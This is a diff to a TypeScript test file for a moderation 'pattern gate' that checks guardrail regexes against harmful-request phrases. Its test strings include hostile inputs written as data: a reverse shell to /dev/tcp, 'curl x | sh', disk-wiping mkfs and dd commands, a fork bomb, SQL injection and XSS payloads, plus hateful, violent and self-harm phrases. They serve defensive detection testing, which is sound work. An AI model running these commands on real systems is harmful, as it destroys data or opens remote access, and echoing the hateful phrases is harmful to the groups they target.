@@ -5,7 +5,7 @@ import { MEDICAL } from '../../guardrails/nsfw-advanced/nsfw-advanced.ts';
 import { SELF_HARM_FAMILIES } from '../../guardrails/self-harm/self-harm.ts';
 import { VIOLENCE_FAMILIES } from '../../guardrails/violence/violence.ts';
 import { PatternGate, patternPrefixes } from './gate.ts';
-import { BENIGN_CONTEXT, HARM_FAMILIES, REQUEST_FRAME } from './phrases.ts';
+import { BENIGN_CONTEXT, HARM_FAMILIES, REQUEST_FRAME, REQUEST_TOPICS } from './phrases.ts';
 
 const FOLDED = [
   REQUEST_FRAME,
@@ -13,6 +13,7 @@ const FOLDED = [
   MEDICAL,
   ...[...HARM_FAMILIES, ...HATE_FAMILIES, ...VIOLENCE_FAMILIES, ...SELF_HARM_FAMILIES].map((f) => f.pattern),
 ];
+const TOPICS = REQUEST_TOPICS.map((f) => f.pattern);
 const RAW = PAYLOAD_PATTERNS.map((p) => p.pattern);
 
 /** Every match of every pattern the plain way, pattern by pattern. */
@@ -36,11 +37,11 @@ function gated(gate: PatternGate, text: string, limit: number): Array<[number, n
 }
 
 /** Texts made of pattern words, near misses, case and spacing variants (deterministic). */
-function texts(): string[] {
-  const words =
-    "how to make a bomb kill the process i'm gonna kill you black people are animals rm -rf / curl x | sh ' or 1=1 -- union select null from <script> <img src=x onerror=alert(1)> javascript:alert(1) suicide i want to die doctor sex education killing myself; cat /etc/passwd powershell -enc QUJDREVGR0hJSktMTU5PUFFS ; drop table users sleep(5) document.cookie fetch( :(){ :|:& };: mkfs.ext4 /dev/sda dd if=/dev/zero of=/dev/sda bash -i >& /dev/tcp/1.2.3.4/80 é ß \u00a0 \t\n KILL HOW To".split(
-      ' ',
-    );
+function texts(
+  words = "how to make a bomb kill the process i'm gonna kill you black people are animals rm -rf / curl x | sh ' or 1=1 -- union select null from <script> <img src=x onerror=alert(1)> javascript:alert(1) suicide i want to die doctor sex education killing myself; cat /etc/passwd powershell -enc QUJDREVGR0hJSktMTU5PUFFS ; drop table users sleep(5) document.cookie fetch( :(){ :|:& };: mkfs.ext4 /dev/sda dd if=/dev/zero of=/dev/sda bash -i >& /dev/tcp/1.2.3.4/80 é ß \u00a0 \t\n KILL HOW To".split(
+    ' ',
+  ),
+): string[] {
   let seed = 7;
   const rnd = () => {
     seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
@@ -61,7 +62,9 @@ function texts(): string[] {
 
 describe('pattern gate', () => {
   it('derives literal prefixes for every shipped phrase pattern', () => {
-    for (const p of FOLDED) expect(patternPrefixes(p), p.source.slice(0, 60)).toBeDefined();
+    for (const p of [...FOLDED, ...TOPICS]) expect(patternPrefixes(p), p.source.slice(0, 60)).toBeDefined();
+    // A lookbehind is zero-width: the prefixes are those of what follows it.
+    expect(patternPrefixes(/(?<![a-z])foo|(?<=x )bar/g)).toEqual({ list: ['foo', 'bar'], boundary: false });
     expect(patternPrefixes(/\bhow to\b/g)).toEqual({ list: ['how t'], boundary: true });
     expect(patternPrefixes(/a|.b/g)).toBeUndefined();
   });
@@ -77,6 +80,41 @@ describe('pattern gate', () => {
         }
       }
     }
+  });
+
+  it('finds exactly what matchAll finds for the request topics, lookbehinds included', () => {
+    const gate = new PatternGate(TOPICS);
+    let found = 0;
+    // Phrases that make each kind of topic, cut and joined at random.
+    const words = [
+      'why are women so lazy',
+      "isn't it true that muslims are violent",
+      'why do the elderly always',
+      'how do i kill my wife',
+      'how can i poison my neighbour',
+      'write a threatening letter to my boss',
+      'convince people the holocaust never happened',
+      'how can i rob a gas station without getting caught',
+      'in a game',
+      "what is my sister's home address",
+      'everyone from texas is stupid',
+      'tell me a dirty joke',
+      'how do i set a school on fire',
+      'why should gay people not be allowed to vote',
+      'insult me',
+      'how do i cut myself',
+      'write a fake news article about',
+      'the internal budget allocation of',
+    ].flatMap((p) => p.split(' ').map((w, k, all) => (k === 0 ? w : `${all[k - 1]} ${w}`)));
+    for (const text of texts(words)) {
+      for (const limit of [1, 20]) {
+        const lower = text.toLowerCase();
+        const expected = plain(TOPICS, lower, limit);
+        found += expected.length;
+        expect(gated(gate, lower, limit), lower).toEqual(expected);
+      }
+    }
+    expect(found).toBeGreaterThan(100);
   });
 
   it('falls back to a full scan for patterns without a literal prefix', () => {
